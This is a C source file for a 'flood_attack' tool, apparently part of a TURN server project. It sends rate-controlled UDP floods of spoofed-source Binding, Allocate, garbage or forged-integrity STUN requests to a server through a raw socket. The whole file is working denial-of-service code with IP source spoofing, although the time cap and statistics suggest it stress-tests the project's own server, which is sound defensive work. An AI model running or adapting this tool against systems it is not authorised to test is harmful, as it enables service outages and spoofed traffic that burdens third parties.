// An attacker: datagrams to a TURN server over UDP, from IPv4 sources that were made up.
//
//   flood_attack ADDRESS:PORT KIND THOUSANDS      of KIND a second
//
//   binding, allocate, garbage    what they are
//   integrity                     an Allocate with a nonce and an integrity, both made up
//   mixed                         each of those
//   password                      the same from a true source, with a nonce that the server gave: it has to compute the integrity
//
// They leave at an even pace through a raw socket (IP_HDRINCL), until SIGTERM or ATTACK_MAX. Where the machine cannot keep
// the pace, what was missed is not made up for at once; the last line says how many left: {"sent":600000,"per_s":119874}

#include <inttypes.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>

#include "base/addr.h"
#include "net/clock.h"
#include "net/sockaddr.h"
#include "net/socket.h"
#include "stun/attr.h"
#include "stun/auth.h"
#include "turn/msg.h"

#define TEMPLATES 256
#define BATCH 32
#define PAYLOAD_MAX 256
#define HEADERS (sizeof(struct iphdr) + sizeof(struct udphdr))
#define ATTACK_MAX YODEL_SECONDS(120) // Whoever is forgotten ends by himself.
#define DEBT_MAX YODEL_MS(5)          // What may be made up for.

#define ANSWER_MAX_S 5

enum kind { BINDING, ALLOCATE, GARBAGE, INTEGRITY, MIXED, PASSWORD, KINDS };
static const char *const names[KINDS] = {
    "binding", "allocate", "garbage", "integrity", "mixed", "password"};

// Where they come from, and the nonce they carry.
struct origin {
    struct yodel_addr addr; // Family NONE: made up.
    uint8_t nonce[64];
    size_t nonce_len;
};

struct packet {
    uint8_t bytes[HEADERS + PAYLOAD_MAX];
    size_t len;
};

static volatile sig_atomic_t is_over;

static void on_signal(int number)
{
    (void)number;
    is_over = 1;
}

static uint64_t state = 0x9e3779b97f4a7c15;

// Xorshift: fast, and the same each time.
static uint64_t random_u64(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static void fill(uint8_t *bytes, size_t len)
{
    for (size_t i = 0; i < len; i++) {
        bytes[i] = (uint8_t)random_u64();
    }
}

// ---- what they say

static void put_integrity(struct writer *w, const struct origin *origin)
{
    static const uint8_t key[16] = "not the password";

    stun_msg_put_attr(w, STUN_USERNAME, bytes_of_text("flood"));
    stun_msg_put_attr(w, STUN_REALM, bytes_of_text("yodel"));
    stun_msg_put_attr(w, STUN_NONCE, bytes_of(origin->nonce, origin->nonce_len));
    stun_auth_put_sha1(w, bytes_of(key, sizeof key));
}

static size_t write_payload(struct span room, enum kind kind, const struct origin *origin)
{
    uint8_t id[STUN_ID_SIZE];
    struct writer w = writer_of(room);

    fill(id, sizeof id);
    if (kind == GARBAGE) {
        size_t len = 20 + random_u64() % 200;
        fill(room.ptr, len);
        return len;
    }
    stun_msg_put_header(&w, kind == BINDING ? STUN_BINDING : TURN_ALLOCATE, id);
    if (kind != BINDING) {
        stun_attr_put_u32(&w, TURN_ATTR_REQUESTED_TRANSPORT, (uint32_t)TURN_PROTOCOL_UDP << 24);
    }
    if (kind == INTEGRITY || kind == PASSWORD) {
        put_integrity(&w, origin);
    }
    return w.len;
}

static void write_packet(struct packet *packet, const struct yodel_addr *server, enum kind kind,
    const struct origin *origin)
{
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
    struct span room = span_of(packet->bytes + HEADERS, sizeof packet->bytes - HEADERS);
    size_t len = write_payload(room, kind, origin);
    // RFC 768: a checksum of zero is none.
    struct udphdr udp = {.source = htons(origin->addr.port),
        .dest = htons(server->port),
        .len = htons((uint16_t)(sizeof(struct udphdr) + len))};

    packet->len = HEADERS + len;
    memcpy(&ip.saddr, origin->addr.ip, 4);
    memcpy(&ip.daddr, server->ip, 4);
    memcpy(packet->bytes, &ip, sizeof ip);
    memcpy(packet->bytes + sizeof ip, &udp, sizeof udp);
}

static void vary_source(struct packet *packet)
{
    uint64_t chance = random_u64();
    uint16_t port = htons((uint16_t)(1024 + chance % 64000));
    uint8_t first = (uint8_t)(1 + (chance >> 16) % 223);
    uint8_t source[4] = {first == 127 || first == 198 || first == 203 ? 1 : first,
        (uint8_t)(chance >> 24), (uint8_t)(chance >> 32), (uint8_t)(chance >> 40)};

    memcpy(packet->bytes + 12, source, sizeof source);
    memcpy(packet->bytes + sizeof(struct iphdr), &port, sizeof port);
}

// Another transaction, which begins behind the type, the length and the cookie, and another source.
static void vary(struct packet *packet, const struct origin *origin)
{
    uint64_t id = random_u64();

    memcpy(packet->bytes + HEADERS + 8, &id, sizeof id);
    if (origin->addr.family == YODEL_ADDR_NONE) {
        vary_source(packet);
    }
}

// ---- a source that is true

static bool read_nonce(struct origin *origin, struct bytes answer)
{
    struct stun_msg msg;
    const struct stun_attr *nonce =
        stun_msg_parse(&msg, answer) == YODEL_OK ? stun_msg_find(&msg, STUN_NONCE) : NULL;

    if (!nonce || nonce->value.len > sizeof origin->nonce) {
        return false;
    }
    memcpy(origin->nonce, nonce->value.ptr, nonce->value.len);
    origin->nonce_len = nonce->value.len;
    return true;
}

// The socket stays open, or answers would be refused by ICMP.
static bool ask_for_nonce(struct origin *origin, const struct yodel_addr *server)
{
    uint8_t bytes[PAYLOAD_MAX];
    struct sockaddr_storage to;
    socklen_t to_len = sockaddr_write(&to, server);
    const struct timeval wait = {.tv_sec = ANSWER_MAX_S};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (fd < 0 || connect(fd, (struct sockaddr *)&to, to_len) != 0) {
        return false;
    }
    (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    size_t len = write_payload(span_of(bytes, sizeof bytes), ALLOCATE, origin);
    ssize_t got = send(fd, bytes, len, 0) < 0 ? -1 : recv(fd, bytes, sizeof bytes, 0);
    origin->addr = socket_local(fd);
    return got > 0 && read_nonce(origin, bytes_of(bytes, (size_t)got));
}

// ---- sending

static size_t send_some(
    int fd, const struct yodel_addr *server, struct packet *packets, const struct origin *origin)
{
    size_t first = (size_t)(random_u64() % TEMPLATES);
    struct sockaddr_storage to;
    socklen_t to_len = sockaddr_write(&to, server);
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];

    for (size_t i = 0; i < BATCH; i++) {
        struct packet *packet = &packets[(first + i) % TEMPLATES];
        vary(packet, origin);
        parts[i] = (struct iovec){packet->bytes, packet->len};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &to, .msg_namelen = to_len, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    int sent = sendmmsg(fd, messages, BATCH, 0);
    return sent > 0 ? (size_t)sent : 0;
}

static void run(int fd, const struct yodel_addr *server, struct packet *packets,
    const struct origin *origin, uint64_t per_second)
{
    const yodel_duration step = YODEL_SECONDS((uint64_t)BATCH) / per_second;
    const struct timespec nap = {.tv_nsec = 100000};
    yodel_time start = clock_now(), due = start, now = start;
    uint64_t sent = 0;

    for (; !is_over && time_since(now, start) < ATTACK_MAX; now = clock_now()) {
        if (due > now) {
            (void)nanosleep(&nap, NULL);
            continue;
        }
        due = time_since(now, due) > DEBT_MAX ? now - DEBT_MAX : due;
        due += step;
        sent += send_some(fd, server, packets, origin);
    }
    yodel_duration lasted = time_since(now, start);
    printf("{\"sent\":%" PRIu64 ",\"per_s\":%" PRIu64 "}\n", sent,
        lasted > 0 ? sent * 1000000 / lasted : 0);
}

static bool find_kind(const char *text, enum kind *kind)
{
    for (size_t i = 0; i < KINDS; i++) {
        if (strcmp(text, names[i]) == 0) {
            *kind = (enum kind)i;
            return true;
        }
    }
    return false;
}

int main(int argc, char **argv)
{
    static struct packet packets[TEMPLATES];
    struct origin origin = {.nonce = "a nonce that was never given", .nonce_len = 32};
    struct yodel_addr server;
    enum kind kind;

    if (argc != 4 || addr_parse(&server, bytes_of_text(argv[1])) != YODEL_OK ||
        !find_kind(argv[2], &kind) || atoi(argv[3]) <= 0) {
        fprintf(stderr, "usage: flood_attack ADDRESS:PORT KIND THOUSANDS\n");
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0 || (kind == PASSWORD && !ask_for_nonce(&origin, &server))) {
        perror("flood_attack");
        return 1;
    }
    (void)signal(SIGTERM, on_signal);
    for (size_t i = 0; i < TEMPLATES; i++) {
        write_packet(&packets[i], &server, kind == MIXED ? (enum kind)(i % MIXED) : kind, &origin);
    }
    run(fd, &server, packets, &origin, (uint64_t)atoi(argv[3]) * 1000);
    return 0;
}
